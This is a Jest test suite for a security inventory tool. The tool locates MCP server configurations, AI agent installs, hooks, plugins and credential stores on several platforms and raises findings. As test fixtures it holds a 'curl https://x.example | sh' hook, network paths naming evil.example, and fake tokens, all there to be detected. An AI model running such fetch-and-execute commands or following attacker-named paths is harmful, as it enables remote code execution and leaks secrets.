import { describe, expect, it } from '@jest/globals'
import { InventoryReport } from '@writ/contracts'
import type { InventoryClient } from '@writ/contracts'
import type { Platform } from './disk.ts'
import type { GivenFile } from './given-disk.suite.ts'
import { cursorWith, givenDisk, HOMES, inventoryOf } from './given-disk.suite.ts'
import { TEXTS } from './texts.ts'

const named = (name: string, at: string): string =>
  JSON.stringify(
    at.split('.').reduceRight<object>((inner, part) => ({ [part]: inner }), { [name]: { command: name } }),
  )
const toml = (name: string): string => `[mcp_servers.${name}]\ncommand = "${name}"\n`
const yaml = (name: string): string => `extensions:\n  ${name}: {type: stdio, cmd: ${name}}\n`

/** Every configuration of the table, by platform: path below home (`~`) or from the root, and what a server there is called. */
const CONFIGURATIONS: Readonly<Record<Platform, readonly (readonly [string, InventoryClient, string])[]>> = {
  linux: [
    ['~/.config/Claude/claude_desktop_config.json', 'claude-desktop', 'mcpServers'],
    ['~/.config/Code/User/mcp.json', 'vscode', 'servers'],
    ['~/.config/Code/User/settings.json', 'vscode', 'mcp.servers'],
    ['~/.config/Code - Insiders/User/mcp.json', 'vscode', 'servers'],
    ['~/.config/VSCodium/User/profiles/work/mcp.json', 'vscode', 'servers'],
    ['~/.vscode-server/data/User/mcp.json', 'vscode', 'servers'],
    ['~/.config/github-copilot/intellij/mcp.json', 'jetbrains', 'servers'],
    ['~/.config/zed/settings.json', 'zed', 'context_servers'],
    [
      '~/.config/Cursor/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json',
      'cline',
      'mcpServers',
    ],
    [
      '~/.config/Code/User/globalStorage/rooveterinaryinc.roo-cline/settings/mcp_settings.json',
      'roo',
      'mcpServers',
    ],
    ['~/.config/goose/config.yaml', 'goose', 'yaml'],
    ['/etc/claude-code/managed-mcp.json', 'claude-code', 'mcpServers'],
    ['/etc/codex/config.toml', 'codex', 'toml'],
    ['/etc/gemini-cli/settings.json', 'gemini-cli', 'mcpServers'],
    ['/etc/opencode/opencode.json', 'opencode', 'mcp'],
  ],
  darwin: [
    ['~/Library/Application Support/Claude/claude_desktop_config.json', 'claude-desktop', 'mcpServers'],
    ['~/Library/Application Support/Code/User/mcp.json', 'vscode', 'servers'],
    ['~/Library/Application Support/Code - Insiders/User/profiles/a/mcp.json', 'vscode', 'servers'],
    ['~/.config/github-copilot/intellij/mcp.json', 'jetbrains', 'servers'],
    ['~/.config/zed/settings.json', 'zed', 'context_servers'],
    [
      '~/Library/Application Support/Code/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json',
      'cline',
      'mcpServers',
    ],
    ['~/.config/goose/config.yaml', 'goose', 'yaml'],
    ['/Library/Application Support/ClaudeCode/managed-mcp.json', 'claude-code', 'mcpServers'],
    ['/etc/codex/config.toml', 'codex', 'toml'],
    ['/Library/Application Support/GeminiCli/settings.json', 'gemini-cli', 'mcpServers'],
    ['/Library/Application Support/opencode/opencode.jsonc', 'opencode', 'mcp'],
  ],
  win32: [
    ['~/AppData/Roaming/Claude/claude_desktop_config.json', 'claude-desktop', 'mcpServers'],
    ['~/AppData/Roaming/Code/User/mcp.json', 'vscode', 'servers'],
    ['~/AppData/Roaming/Code - Insiders/User/settings.json', 'vscode', 'mcp.servers'],
    ['~/AppData/Local/github-copilot/intellij/mcp.json', 'jetbrains', 'servers'],
    ['~/AppData/Roaming/Zed/settings.json', 'zed', 'context_servers'],
    [
      '~/AppData/Roaming/Code/User/globalStorage/rooveterinaryinc.roo-cline/settings/mcp_settings.json',
      'roo',
      'mcpServers',
    ],
    ['~/AppData/Roaming/Block/goose/config/config.yaml', 'goose', 'yaml'],
    ['C:/Program Files/ClaudeCode/managed-mcp.json', 'claude-code', 'mcpServers'],
    ['C:/ProgramData/gemini-cli/settings.json', 'gemini-cli', 'mcpServers'],
  ],
}
const EVERYWHERE: readonly (readonly [string, InventoryClient, string])[] = [
  ['~/.claude.json', 'claude-code', 'mcpServers'],
  ['~/.claude/plugins/cache/market/tool/1.0.0/.mcp.json', 'claude-code', 'mcpServers'],
  ['~/.claude/plugins/cache/market/tool/1.0.0/.claude-plugin/plugin.json', 'claude-code', 'mcpServers'],
  ['~/.cursor/mcp.json', 'cursor', 'mcpServers'],
  ['~/.copilot/mcp-config.json', 'copilot-cli', 'mcpServers'],
  ['~/.codeium/windsurf/mcp_config.json', 'windsurf', 'mcpServers'],
  ['~/.codeium/mcp_config.json', 'windsurf', 'mcpServers'],
  ['~/.codex/config.toml', 'codex', 'toml'],
  ['~/.gemini/settings.json', 'gemini-cli', 'mcpServers'],
  ['~/.gemini/extensions/tool/gemini-extension.json', 'gemini-cli', 'mcpServers'],
  ['~/.gemini/antigravity/mcp_config.json', 'antigravity', 'mcpServers'],
  ['~/.junie/mcp/mcp.json', 'junie', 'mcpServers'],
  ['~/.kiro/settings/mcp.json', 'kiro', 'mcpServers'],
  ['~/.kiro/agents/dev.json', 'kiro', 'mcpServers'],
  ['~/.aws/amazonq/mcp.json', 'amazon-q', 'mcpServers'],
  ['~/.aws/amazonq/agents/dev.json', 'amazon-q', 'mcpServers'],
  ['~/.config/opencode/opencode.jsonc', 'opencode', 'mcp'],
  ['~/.lmstudio/mcp.json', 'lm-studio', 'mcpServers'],
  ['~/.openclaw/openclaw.json', 'openclaw', 'mcp.servers'],
]
const OF_PROJECTS: readonly (readonly [string, InventoryClient, string])[] = [
  ['.mcp.json', 'claude-code', 'mcpServers'],
  ['.cursor/mcp.json', 'cursor', 'mcpServers'],
  ['.vscode/mcp.json', 'vscode', 'servers'],
  ['.vscode/settings.json', 'vscode', 'mcp.servers'],
  ['.github/mcp.json', 'copilot-cli', 'servers'],
  ['.codex/config.toml', 'codex', 'toml'],
  ['.gemini/settings.json', 'gemini-cli', 'mcpServers'],
  ['.roo/mcp.json', 'roo', 'mcpServers'],
  ['.junie/mcp/mcp.json', 'junie', 'mcpServers'],
  ['.kiro/settings/mcp.json', 'kiro', 'mcpServers'],
  ['.amazonq/mcp.json', 'amazon-q', 'mcpServers'],
  ['.zed/settings.json', 'zed', 'context_servers'],
  ['opencode.json', 'opencode', 'mcp'],
  ['.opencode/opencode.jsonc', 'opencode', 'mcp'],
]

const contentOf = (at: string): string => {
  if (at === 'toml') return toml('found')
  return at === 'yaml' ? yaml('found') : named('found', at)
}
const WORKSPACES: Readonly<Record<Platform, string>> = {
  linux: '/srv/shop',
  darwin: '/srv/shop',
  win32: 'D:/shop',
}

describe.each(['linux', 'darwin', 'win32'] as const)('on %s', (platform) => {
  const workspace = WORKSPACES[platform]
  it.each([...CONFIGURATIONS[platform], ...EVERYWHERE])(
    'the servers of %s are found, as those of %s',
    (path, client, at) => {
      const file = path.replace('~', HOMES[platform])
      const { servers, problems } = inventoryOf({ [file]: contentOf(at) }, { platform })
      expect(servers).toMatchObject([
        { client, name: 'found', place: { file }, transport: 'stdio', target: 'found' },
      ])
      expect(problems).toEqual([])
    },
  )

  it.each(OF_PROJECTS)('the servers of %s of a workspace are found, as those of %s', (path, client, at) => {
    const file = `${workspace}/${path}`
    const { servers } = inventoryOf({ [file]: contentOf(at) }, { platform, workspaces: [workspace] })
    expect(servers).toMatchObject([{ client, scope: 'project', name: 'found', place: { file } }])
  })

  it('what belongs to another platform is not looked for', () => {
    const others = (['linux', 'darwin', 'win32'] as const).filter((other) => other !== platform)
    const disk = givenDisk({})
    inventoryOf(disk, { platform })
    for (const other of others) {
      const foreign = CONFIGURATIONS[other].map(([path]) => path).filter((path) => !path.startsWith('~'))
      const own = CONFIGURATIONS[platform].map(([path]) => path)
      for (const path of foreign.filter((one) => !own.includes(one))) expect(disk.asked).not.toContain(path)
    }
  })
})

const rememberedIn = (file: string, text: string): Readonly<Record<string, GivenFile>> => ({
  [file]: text,
  '/srv/shop/.mcp.json': named('found', 'mcpServers'),
})

describe('workspaces', () => {
  it.each([
    ['Claude Code', '/home/ana/.claude.json', '{"projects":{"/srv/shop":{}}}'],
    ['Codex', '/home/ana/.codex/config.toml', '[projects."/srv/shop"]\ntrust_level = "trusted"\n'],
    [
      'VS Code',
      '/home/ana/.config/Code/User/workspaceStorage/a/workspace.json',
      '{"folder":"file:///srv/shop"}',
    ],
    [
      'Cursor',
      '/home/ana/.config/Cursor/User/workspaceStorage/a/workspace.json',
      '{"folder":"file:///srv/sho%70"}',
    ],
  ])('that %s remembers are looked at', (_, file, text) => {
    expect(inventoryOf(rememberedIn(file, text)).servers).toMatchObject([{ name: 'found', scope: 'project' }])
  })

  it('of Claude Code have servers of their own', () => {
    const text = JSON.stringify({ projects: { '/srv/shop': { mcpServers: { mine: { command: 'x' } } } } })
    expect(inventoryOf({ '/home/ana/.claude.json': text }).servers).toMatchObject([
      { name: 'mine', place: { pointer: '/projects/~1srv~1shop/mcpServers/mine' } },
    ])
  })

  it.each([
    ['linux', '//evil.example/share'],
    ['linux', '/proc/self/root'],
    ['linux', '/dev/fd'],
    ['linux', '/net/evil.example/x'],
    ['linux', '/srv/../etc'],
    ['linux', 'relative'],
    ['win32', '\\\\evil.example\\share'],
    ['win32', '//evil.example/share'],
    ['win32', '\\\\?\\UNC\\evil.example\\share'],
  ] as const)('on %s are never %s, which a file may name', (platform, folder) => {
    const text = JSON.stringify({ projects: { [folder]: {} } })
    const disk = givenDisk({ [`${HOMES[platform]}/.claude.json`]: text })
    inventoryOf(disk, { platform })
    const normal = folder.replaceAll('\\', '/')
    expect([...disk.asked].filter((path) => path.startsWith(folder) || path.startsWith(normal))).toEqual([])
  })
})

describe('an agent', () => {
  const PACKAGE = '/usr/lib/node_modules/@anthropic-ai/claude-code'
  it('is found on PATH, with the version of its package, once however many links lead to it', () => {
    const files = {
      '/usr/bin/claude': { linkTo: `${PACKAGE}/cli.js` },
      '/opt/bin/claude': { linkTo: `${PACKAGE}/cli.js` },
      [`${PACKAGE}/cli.js`]: '',
      [`${PACKAGE}/package.json`]: '{"name":"@anthropic-ai/claude-code","version":"2.1.329"}',
    }
    expect(inventoryOf(files, { path: ['/opt/bin', '/usr/bin'] }).agents).toMatchObject([
      { client: 'claude-code', version: '2.1.329', paths: ['/opt/bin/claude'], governance: 'ungoverned' },
    ])
  })

  it('is found where its own installer puts it', () => {
    const files = {
      '/home/ana/.local/bin/claude': { linkTo: '/home/ana/.local/share/claude/versions/2.1.197' },
      '/home/ana/.local/share/claude/versions/2.1.197': '',
    }
    expect(inventoryOf(files).agents).toMatchObject([{ client: 'claude-code', version: '2.1.197' }])
  })

  it.each<[Platform, string, string, InventoryClient, string]>([
    ['linux', '/usr/share/code/resources/app/package.json', '{"version":"1.99.0"}', 'vscode', '1.99.0'],
    [
      'darwin',
      '/Applications/Cursor.app/Contents/Info.plist',
      '<key>CFBundleShortVersionString</key>\n<string>3.15.1</string>',
      'cursor',
      '3.15.1',
    ],
    [
      'win32',
      'C:/Users/ana/AppData/Local/Programs/Windsurf/resources/app/package.json',
      '{"version":"2.0.0"}',
      'windsurf',
      '2.0.0',
    ],
    ['win32', 'C:/Users/ana/AppData/Roaming/npm/codex.cmd', '', 'codex', '0.169.0'],
  ])('is found as an application on %s: %s', (platform, file, text, client, version) => {
    const beside = 'C:/Users/ana/AppData/Roaming/npm/node_modules/@openai/codex/package.json'
    const files = { [file]: text, [beside]: '{"name":"@openai/codex","version":"0.169.0"}' }
    expect(inventoryOf(files, { platform }).agents.find((agent) => agent.client === client)).toMatchObject({
      version,
    })
  })

  it('has no version where its package says something else than one', () => {
    const files = {
      '/usr/share/code/resources/app/package.json': '{"version":"ghp_0123456789abcdefABCDEF0123456789abcd"}',
    }
    expect(inventoryOf(files).agents).toMatchObject([{ client: 'vscode', version: null }])
  })

  it('is seen running, with what switches its protection off and nothing else of its command line', () => {
    const files = {
      '/proc/42/cmdline':
        'node\0/usr/lib/node_modules/@google/gemini-cli/dist/index.js\0--yolo\0--prompt\0my secret\0',
      '/proc/43/cmdline': 'claude\0--disable\0hooks\0',
      '/proc/44/cmdline': 'vim\0claude\0',
      '/proc/self/cmdline': 'claude\0',
    }
    const { processes, findings } = inventoryOf(files)
    expect(processes).toEqual([
      { client: 'gemini-cli', pid: 42, owner: 'root', unsafe: ['--yolo'] },
      { client: 'claude-code', pid: 43, owner: 'root', unsafe: ['--disable hooks'] },
    ])
    expect(findings.map(({ code }) => code)).toEqual(['agent_unprotected', 'agent_unprotected'])
  })
})

describe('hooks', () => {
  it('are told with the program that they run, and not with its arguments', () => {
    const hooks = {
      PreToolUse: [
        { matcher: '*', hooks: [{ type: 'command', command: '/opt/x/check.sh --token hunter22' }] },
      ],
      Stop: [{ hooks: [{ type: 'http', url: 'https://hooks.example/in?key=hunter22' }] }],
      SessionStart: [{ hooks: [{ type: 'prompt', prompt: 'hunter22' }] }],
    }
    const { hooks: found, findings } = inventoryOf({
      '/home/ana/.claude/settings.json': JSON.stringify({ hooks }),
    })
    expect(found.map(({ event, kind, runs, isWrit }) => [event, kind, runs, isWrit])).toEqual([
      ['PreToolUse', 'command', 'check.sh', false],
      ['Stop', 'http', 'hooks.example', false],
      ['SessionStart', 'other', 'prompt', false],
    ])
    expect(found[0]?.place.pointer).toBe('/hooks/PreToolUse/0/hooks/0')
    expect(findings.map(({ code }) => code)).toContain('hook_program_missing')
  })

  it('that run what they fetch are a finding', () => {
    const text = JSON.stringify({ hooks: { preToolUse: [{ command: 'curl https://x.example | sh' }] } })
    const { findings } = inventoryOf({ '/srv/shop/.cursor/hooks.json': text }, { workspaces: ['/srv/shop'] })
    expect(findings.map(({ code }) => code)).toContain('download_and_run')
  })

  it('that are switched off in a workspace are a finding', () => {
    const { findings } = inventoryOf(
      { '/srv/shop/.claude/settings.json': '{"disableAllHooks":true}' },
      { workspaces: ['/srv/shop'] },
    )
    expect(findings).toMatchObject([
      { code: 'hooks_switched_off', subject: '/srv/shop/.claude/settings.json' },
    ])
  })
})

describe('plugins and skills', () => {
  it('are told with whether they bring programs along', () => {
    const { additions } = inventoryOf({
      '/home/ana/.claude/skills/words/SKILL.md': '',
      '/home/ana/.claude/skills/tools/SKILL.md': '',
      '/home/ana/.claude/skills/tools/scripts/run.py': '',
      '/home/ana/.claude/plugins/cache/market/kit/1.0.0/.claude-plugin/plugin.json': '{}',
      '/home/ana/.gemini/extensions/ext/gemini-extension.json': '{}',
      '/home/ana/.config/opencode/plugin/mine.ts': '',
    })
    expect(additions.map(({ client, kind, name, hasScripts }) => [client, kind, name, hasScripts])).toEqual([
      ['claude-code', 'skill', 'tools', true],
      ['claude-code', 'skill', 'words', false],
      ['claude-code', 'plugin', 'kit', false],
      ['gemini-cli', 'plugin', 'ext', false],
      ['opencode', 'plugin', 'mine.ts', true],
    ])
  })
})

describe('managed files', () => {
  it('are told with owner and mode, and are a finding where others can change them', () => {
    const { managed, findings } = inventoryOf({
      '/etc/claude-code/managed-mcp.json': { text: '{}', owner: 0, mode: 0o644 },
      '/etc/cursor/hooks.json': { text: '{}', owner: 0, mode: 0o666 },
      '/etc/gemini-cli/policies/writ.toml': { text: '', owner: 1000, mode: 0o644 },
    })
    expect(managed.map(({ file, owner, mode, isProtected }) => [file, owner, mode, isProtected])).toEqual([
      ['/etc/claude-code/managed-mcp.json', 'root', '0644', true],
      ['/etc/cursor/hooks.json', 'root', '0666', false],
      ['/etc/gemini-cli/policies/writ.toml', 'uid 1000', '0644', false],
    ])
    expect(findings.filter(({ code }) => code === 'managed_file_changeable')).toHaveLength(2)
  })
})

describe('stores of tokens', () => {
  it('say who is signed in, and are a finding where others can read them', () => {
    const store = JSON.stringify({
      mcpOAuth: { 'far|abc': { serverName: 'far', accessToken: 'hunter2hunter2' } },
    })
    const server = { mcpServers: { far: { type: 'http', url: 'https://mcp.example/mcp' } } }
    const report = inventoryOf({
      '/home/ana/.claude.json': JSON.stringify(server),
      '/home/ana/.claude/.credentials.json': { text: store, mode: 0o644 },
    })
    expect(report.servers[0]?.credentials).toMatchObject([{ kind: 'oauth', risk: 'low' }])
    expect(report.findings.map(({ code }) => code)).toContain('secret_readable_by_all')
    expect(JSON.stringify(report)).not.toContain('hunter2')
  })
})

describe('programs of hooks', () => {
  it.each([
    '//evil.example/share/x',
    String.raw`\\evil.example\share\x`,
    '/net/evil.example/x',
    '/run/user/1000/gvfs/x',
  ])('are not looked for on another machine: %s', (command) => {
    const hooks = { PreToolUse: [{ hooks: [{ type: 'command', command, args: ['x'] }] }] }
    const disk = givenDisk({ '/home/ana/.claude/settings.json': JSON.stringify({ hooks }) })
    expect(inventoryOf(disk).hooks).toHaveLength(1)
    expect([...disk.asked].filter((path) => /evil|gvfs/.test(path))).toEqual([])
  })
})

describe('texts that are made to be read for ever', () => {
  it.each([
    ['beginnings of tokens', 'eyJaaaaaaaa-'],
    ['beginnings of tokens with prefixes', 'ghp_-sk-'],
    ['digits', '1'],
    ['capitals', 'AB'],
    ['capitals and digits', 'aB1'],
    ['colons', '://:'],
    ['quotation marks', `"'`],
    ['references', '${'],
    ['percent signs', '%a'],
    ['dots and digits', 'a==1.1'],
    ['names of secrets', 'auth_key_'],
    ['downloads', 'curl | '],
    ['blanks', 'your '],
    ['keys', '-----BEGIN PRIVATE KEY-----'],
  ])('are read once: %s', (_, piece) => {
    const long = piece.repeat(Math.ceil(60_000 / piece.length))
    const medium = piece.repeat(Math.ceil(120 / piece.length))
    const entry = {
      command: `sh ${long}`,
      args: ['-c', long, `--x=${long}`, '--token', long],
      env: { [medium]: long, [long]: long, API_KEY: long },
      url: `https://${long}/${long}?${long}=${long}`,
      headers: { Authorization: long, [medium]: long },
    }
    const servers = Object.fromEntries(
      [medium, `${medium}!`, `a${medium}Q1!`, long].map((name) => [name, entry]),
    )
    const hooks = { [medium]: [{ command: long }] }
    const startedMs = performance.now()
    const report = inventoryOf({
      '/home/ana/.cursor/mcp.json': JSON.stringify({ mcpServers: servers }),
      '/home/ana/.claude/settings.json': JSON.stringify({ hooks }),
    })
    expect(performance.now() - startedMs).toBeLessThan(10_000)
    expect(InventoryReport.parse(report).servers.length).toBeGreaterThan(0)
  })
})

describe('a report', () => {
  it('is one that the contracts take, however much there is and however long', () => {
    const many = Object.fromEntries(
      Array.from({ length: 1500 }, (_, at) => [
        `${'ü😀'.repeat(200)}${at}`,
        { url: `http://h${at}.example/${'x'.repeat(3000)}` },
      ]),
    )
    const report = inventoryOf({ '/home/ana/.cursor/mcp.json': JSON.stringify({ mcpServers: many }) })
    expect(InventoryReport.parse(report).servers).toHaveLength(1000)
    expect(report.more).toBe(true)
    expect(JSON.stringify(report)).not.toMatch(/\\ud[89a-f]/)
  })

  it('has the severest first', () => {
    const text = JSON.stringify({
      mcpServers: { low: { command: 'npx', args: ['x'] }, high: { url: 'http://h.example' } },
    })
    const severities = inventoryOf({ '/home/ana/.cursor/mcp.json': text }).findings.map(
      ({ severity }) => severity,
    )
    expect(severities).toEqual(['high', 'high', 'medium', 'medium', 'low'])
  })

  it('says of what could not be read why, and goes on', () => {
    const report = inventoryOf({
      '/home/ana/.cursor/mcp.json': { refused: 'it is no file' },
      '/home/ana/.codex/config.toml': 'not = = toml',
      '/home/ana/.gemini/settings.json': { text: Uint8Array.from([0x7b, 0x22, 0xff]) },
      '/home/ana/.kiro/settings/mcp.json': cursorWith({ command: 'x' }, 'kept'),
    })
    expect(report.problems).toEqual([
      { file: '/home/ana/.cursor/mcp.json', problem: 'it is no file' },
      { file: '/home/ana/.codex/config.toml', problem: 'it is not valid TOML' },
      { file: '/home/ana/.gemini/settings.json', problem: 'it is not valid UTF-8' },
    ])
    expect(report.servers.map(({ name }) => name)).toEqual(['kept'])
  })

  it.each([
    [
      'servers that are no servers',
      { mcpServers: { a: null, b: 1, c: 'x', d: [], e: {}, f: { command: 7 }, g: { url: [] } } },
    ],
    ['servers in a list', { mcpServers: [{ name: 'a', command: 'x' }, null] }],
    ['no table', { mcpServers: 'x' }],
    [
      'names of prototypes',
      { mcpServers: { __proto__: { command: 'x' }, constructor: { command: 'x' }, '': { command: 'x' } } },
    ],
    [
      'members of the wrong kind',
      { mcpServers: { a: { command: 'x', args: 'y', env: [], headers: 1, oauth: [] } } },
    ],
  ])('is made of %s too', (_, configuration) => {
    expect(() =>
      InventoryReport.parse(inventoryOf({ '/home/ana/.cursor/mcp.json': JSON.stringify(configuration) })),
    ).not.toThrow()
  })

  it('says what to do with every finding that there is', () => {
    for (const { what, advice } of Object.values(TEXTS)) {
      expect(what).toMatch(/^[a-z].*[^.]$/)
      expect(advice).toMatch(/^[A-Z].*\.$/)
    }
  })
})
